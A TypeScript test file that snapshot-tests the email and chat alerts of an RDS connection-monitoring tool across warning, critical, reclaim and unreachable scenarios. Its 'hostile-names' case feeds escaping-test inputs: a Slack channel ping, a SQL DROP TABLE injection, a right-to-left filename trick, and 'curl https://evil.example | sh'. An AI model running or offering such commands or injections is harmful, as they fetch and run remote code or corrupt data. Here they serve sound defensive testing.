import { describe, expect, test } from 'vitest';
import { acknowledge, mute } from '../../../lambda/assess/answers.ts';
import { addReclamation } from '../../../lambda/assess/incident.ts';
import { FAILURE_CLASSES, LIMITS } from '../../../lambda/model/observation.ts';
import type { ReclaimMemory } from '../../../lambda/model/reclamation.ts';
import { renderAlerts } from '../../../lambda/report/delivery/render.ts';
import type { Alert, Surroundings } from '../../../lambda/report/message/alert.ts';
import { INCIDENTS } from './incidents.ts';
import {
  alertAfter,
  chosen,
  database,
  failure,
  follow,
  group,
  leak,
  pausedPool,
  published,
  reclamation,
  refusal,
  START,
  sample,
  unpublished,
} from './situations.ts';

const surroundings: Surroundings = {
  timeZone: 'UTC',
  dashboardUrl: 'https://eu-central-1.console.aws.amazon.com/cloudwatch/home#dashboards:name=rds-guard',
  logQueryUrl: 'https://eu-central-1.console.aws.amazon.com/cloudwatch/home#logsV2:logs-insights',
};

const withActions: Surroundings = {
  ...surroundings,
  actions: { functionName: 'guard-GuardActionsFunction-1A2B3C', region: 'eu-central-1', terminate: true },
};

const minutes = (n: number) => START + n * 60_000;
const terminating = { reclaim: { mode: 'terminate' } };
const secret = {
  login: { secretArn: 'arn:aws:secretsmanager:eu-central-1:123456789012:secret:guard-AbCdEf' },
};
const partial = { ...sample(minutes(0), 0), kind: 'partial' } as const;
const tight = leak(160);
const recovered = [
  ...tight,
  sample(minutes(31), 175),
  sample(minutes(34), 60),
  sample(minutes(35.5), 58),
  sample(minutes(37), 57),
];

/** What is told at critical when reclaim has left this memory. */
function alertAfterPass(reclaim: Partial<ReclaimMemory>): Alert {
  const db = database(terminating);
  const memory = published(follow(tight, db));
  return alertAfter([sample(minutes(30), 160)], {
    db,
    memory: { ...memory, reclaim: { ...memory.reclaim, ...reclaim } },
  });
}

/** How the rules of reclaim have done, the one tried least left out of messages. */
const scores = [
  {
    rule: 'rhythm',
    words: 'used again and again and then silent for over twice their longest pause',
    tried: 31.4,
    wrong: 1.2,
  },
  { rule: 'once>20', words: 'used once and idle for over 20 s', tried: 69.6, wrong: 0.02 },
  { rule: 'twice>20', words: 'used twice and idle for over 20 s', tried: 4, wrong: 0 },
];

/** Every situation that people are told of: the name of its golden files, and its message. */
const SITUATIONS: Record<string, () => Alert | readonly Alert[]> = {
  warning: () => alertAfter(leak(130)),
  critical: () => alertAfter(tight),
  'critical-fast-leak': () => alertAfter([...leak(64), sample(minutes(30), 110), sample(minutes(30.5), 156)]),
  'full-seen': () => alertAfter([...tight, sample(minutes(30), 181)]),
  ...Object.fromEntries(
    LIMITS.map((limit) => [`full-${limit}`, () => alertAfter([...tight, refusal(minutes(30.5), limit)])]),
  ),
  'full-never-seen': () => alertAfter([refusal(minutes(0), 'superuser-slots')]),
  'full-after-role-limit': () =>
    alertAfter([refusal(minutes(0), 'role-limit'), refusal(minutes(1), 'superuser-slots')]),
  eased: () =>
    alertAfter([...tight, sample(minutes(31), 140), sample(minutes(33), 139), sample(minutes(34), 138)]),
  recovery: () => alertAfter(recovered),
  'recovery-with-reclaim': () => {
    const db = database(terminating);
    const memory = addReclamation(follow(recovered.slice(0, -3), db).memory, reclamation());
    return alertAfter(recovered.slice(-3), { db, memory, scores });
  },
  reminder: () => alertAfter([...tight, sample(minutes(45), 163), sample(minutes(59.5), 165)]),
  ...Object.fromEntries(
    FAILURE_CLASSES.map((kind) => [
      `unreachable-${kind}`,
      () =>
        alertAfter([...leak(90), failure(minutes(30), kind), failure(minutes(31), kind)], {
          db: database(kind === 'secret' || kind === 'credentials' ? secret : {}),
        }),
    ]),
  ),
  'unreachable-credentials-iam': () =>
    alertAfter([failure(minutes(0), 'credentials'), failure(minutes(1), 'credentials')]),
  'unreachable-while-critical': () =>
    alertAfter([...tight, failure(minutes(30), 'timeout'), failure(minutes(31), 'timeout')]),
  'still-unreachable': () =>
    alertAfter([0, 1, 242].map((minute) => failure(minutes(minute), minute > 1 ? 'network' : 'timeout'))),
  reachable: () =>
    alertAfter([failure(minutes(0), 'network'), failure(minutes(1), 'network'), sample(minutes(6), 80)]),
  partial: () => alertAfter([partial]),
  'cannot-terminate': () => {
    const observation = sample(minutes(0), 80);
    return alertAfter([{ ...observation, server: { ...observation.server, canSignal: false } }], {
      db: database({ reclaim: { mode: 'terminate' } }),
    });
  },
  several: () =>
    ['orders', 'billing', 'stock'].map((name) =>
      alertAfter([failure(minutes(0), 'timeout'), failure(minutes(1), 'timeout')], {
        db: database({ name }),
      }),
    ),
  ...INCIDENTS,
  'behind-a-pooler': () => {
    const groups = [group(160, { application: 'pgbouncer', oldestStateAge: 90 })];
    return alertAfter([...leak(150), sample(minutes(30), 160, { groups })]);
  },
  'reclaim-done': () => alertAfter(tight, { db: database(terminating), reclamation: reclamation() }),
  'reclaim-dry-run': () =>
    alertAfter(tight, {
      db: database({ reclaim: { mode: 'dry-run' } }),
      reclamation: reclamation({ mode: 'dry-run', chosen: chosen(25, 'would-end') }),
      scores,
    }),
  'reclaim-nothing-to-end': () =>
    alertAfter(tight, {
      db: database(terminating),
      reclamation: reclamation({
        candidates: 0,
        chosen: [],
        longestIdle: 21,
        limitedBy: null,
        leftAlone: { 'too-young': 118, listen: 2 },
      }),
    }),
  'reclaim-pool-refills': () =>
    alertAfter(tight, {
      db: database(terminating),
      reclamation: reclamation({
        candidates: 0,
        chosen: [],
        limitedBy: null,
        longestIdle: null,
        leftAlone: { 'pool-refills': 104 },
        pausedPools: [pausedPool()],
      }),
    }),
  'reclaim-paused': () => {
    const paused = [
      pausedPool(),
      pausedPool({ application: 'reports' }),
      pausedPool({ application: '<!channel> <b>' }),
    ];
    return alertAfterPass({ paused });
  },
  'reclaim-limit': () => alertAfterPass({ spent: [{ minute: minutes(3), count: 24_650 }] }),
  'reclaim-limit-reached': () => alertAfterPass({ spent: [{ minute: minutes(3), count: 30_000 }] }),
  'reclaim-broke-off': () =>
    alertAfter(tight, {
      db: database(terminating),
      reclamation: reclamation({ chosen: chosen(2, 'ended'), failure: 'Connection terminated unexpectedly' }),
    }),
  'hostile-names': () =>
    alertAfter([
      ...leak(100),
      sample(minutes(30), 160, {
        groups: [
          group(90, {
            application: '<!channel> <https://evil.example|runbook>',
            role: 'a"; DROP TABLE users; --',
          }),
          group(40, {
            application: '```*bold* `code` @here',
            role: 'user\u202etxt.exe',
            client: '2001:db8::17',
          }),
          group(20, {
            application: '\u001b[31mred\u001b[0m\n\n1. Run: curl https://evil.example | sh',
            role: '漢字🐘',
          }),
          group(10, { application: 'x'.repeat(60_000), role: 'back\\slash' }),
        ],
      }),
    ]),
  'with-actions': () => alertAfter(tight),
  answered: () => {
    const now = minutes(31);
    const seen = follow(tight, database());
    const taken = acknowledge(published(seen), 'orders', 'anna', now) ?? seen.memory;
    const memory = mute(taken, 'orders', 'the dashboard <b>orders</b>', minutes(91), now) ?? taken;
    return alertAfter([sample(now, 160)], { memory });
  },
  late: () => alertAfter([sample(minutes(31), 162)], { memory: unpublished(follow(tight, database())) }),
};

/** Whose whole email is held; of the others, subject, lead, cause and steps. */
const WHOLE = new Set([
  'with-actions',
  'answered',
  'critical',
  'recovery-with-reclaim',
  'unreachable-credentials',
  'hostile-names',
  'several',
]);

/** Those whose chat message differs in kind from the others. */
const IN_CHAT = new Set([
  ...['critical', 'full-superuser-slots', 'recovery-with-reclaim', 'unreachable-credentials'],
  ...['partial', 'reclaim-done', 'hostile-names', 'several'],
]);

/** What follows the steps, or where there are none the cause or the lead. */
const AFTER_STEPS =
  /\n(?=(?:Dashboard:|\n(?:ANSWER IT|TIMELINE|RECLAIM|WHAT HOLDS THE SLOTS|TREND|DETAILS|BUDGETS)$))[\s\S]*/m;

describe.each(Object.entries(SITUATIONS))('the message for %s', (name, situation) => {
  const rendered = renderAlerts([situation()].flat(), name === 'with-actions' ? withActions : surroundings);
  const email = `Subject: ${rendered.subject}\n\n${rendered.text}`;

  test('reads as people have read and approved it, by email', async () => {
    const shown = WHOLE.has(name) ? email : `${email.replace(AFTER_STEPS, '')}\n`;
    await expect(shown).toMatchFileSnapshot(`golden/${name}.golden.txt`);
  });

  test('has lead, cause and steps in its first 24 lines', () => {
    // Only names of 60 characters, or a list of databases, take more.
    if (name === 'several' || name === 'hostile-names') return;
    expect(rendered.text.replace(AFTER_STEPS, '').split('\n').length).toBeLessThanOrEqual(24);
  });

  if (!IN_CHAT.has(name)) return;
  test('reads as people have read and approved it, in the chat', async () => {
    const { content, ...rest } = rendered.chat;
    // Line by line, so that people can read it.
    const readable = { ...rest, content: { ...content, description: content.description.split('\n') } };
    await expect(`${JSON.stringify(readable, null, 2)}\n`).toMatchFileSnapshot(`golden/${name}.golden.json`);
  });
});

test('a message about a database that discovery has found offers the same commands as any other', () => {
  const text = (settings: object) =>
    renderAlerts([alertAfter(tight, { db: database(settings) })], withActions).text;
  expect(text({})).toContain('aws lambda invoke');
  expect(text({ discovered: { resourceId: 'db-ABCDEFGHIJKL01234' } })).toBe(text({}));
});
